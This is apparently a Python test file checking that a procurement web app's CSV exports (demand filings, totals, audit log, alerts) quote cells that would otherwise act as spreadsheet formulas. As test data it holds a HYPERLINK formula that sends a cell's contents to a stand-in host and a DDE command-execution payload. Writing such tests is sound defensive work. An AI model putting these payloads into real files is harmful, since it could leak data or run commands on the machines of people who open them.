"""The web's CSV exports never turn data into formulas (issue 11, item 4).

``demand_filings.csv`` carried a hospital's explanation bare, ``audit-log.csv`` a
note or a user's name; a cell beginning with ``=``, ``+``, ``-`` or ``@`` now goes
out with a leading ``'`` (see :mod:`jicai.spreadsheet`), and ``alerts.csv`` written
by the monitor reads back into the inbox exactly as the data was.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa

from jicai.contract.schemas import ALERT_COLUMNS
from jicai.reports.monitor_files import write_csv
from jicai.spreadsheet import FORMULA_TRIGGERS
from jicai.web.alerts.importing import read_alerts_csv
from jicai.web.audit.record import Actor
from jicai.web.filings import review, services
from jicai.web.reference.models import Variety
from jicai.web.tickets import services as tickets
from tests.web.filing_helpers import actor, h_a, open_drug
from tests.web.records import build_records, pdf
from tests.web.world import World

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for field in row:
            assert not field or field[0] not in FORMULA_TRIGGERS, field


def test_demand_filings_and_totals_quote_formula_text(world: World, as_) -> None:
    window = open_drug(world)
    filing = h_a(window)
    hospital = Actor(world.users["hospital"], "127.0.0.1")
    services.save_lines(hospital, filing, {ln.variety_id: (1200, EVIL)
                                           for ln in filing.lines.all()})
    services.attach_letter(hospital, filing, pdf())
    services.submit(hospital, filing)
    for who in ("county_a", "city", "province"):
        review.approve(actor(world, who), filing)
    Variety.objects.filter(code="V1").update(name="@SUM(1,2)")

    rows = _rows(as_("province").get(
        f"/filings/window/{window.pk}/demand_filings.csv?lang=en").content)
    _no_formula(rows)
    explanation = rows[0].index("explanation")
    assert {r[explanation] for r in rows[1:]} == {"'" + EVIL}
    assert rows[1][rows[0].index("reported_units")] == "1200"

    totals = _rows(as_("province").get(f"/filings/window/{window.pk}/total.csv?lang=en").content)
    _no_formula(totals)
    names = {r[totals[0].index("variety_code")]: r[totals[0].index("name")] for r in totals[1:]}
    assert names["V1"] == "'@SUM(1,2)"


def test_the_audit_log_quotes_formula_text(world: World, as_) -> None:
    records = build_records(world)
    tickets.escalate(Actor(world.users["county_a"], "192.168.3.4"), records.ticket,
                     "-1+cmd|' /C calc'!A0")
    rows = _rows(as_("city").get("/audit/audit-log.csv?action=ticket.&lang=en").content)
    _no_formula(rows)
    assert rows[1][rows[0].index("note")] == "'-1+cmd|' /C calc'!A0"
    assert rows[1][rows[0].index("id")].isdigit()


def test_alerts_csv_reads_back_as_the_data_was(tmp_path: Path) -> None:
    names = [c for c, _zh, _t in ALERT_COLUMNS]
    texts = [EVIL, "'=already quoted", "宛城区人民医院：未完成", "'plain apostrophe"]
    columns: dict[str, list[object]] = {n: [None] * len(texts) for n in names}
    columns["message"] = list(texts)
    columns["rule_id"] = ["progress.behind_schedule"] * len(texts)
    table = pa.table({n: pa.array(columns[n], t) for n, _zh, t in ALERT_COLUMNS})
    write_csv(table, tmp_path / "alerts.csv")
    written = _rows((tmp_path / "alerts.csv").read_bytes())
    _no_formula(written)
    assert read_alerts_csv(tmp_path / "alerts.csv").column("message").to_pylist() == texts
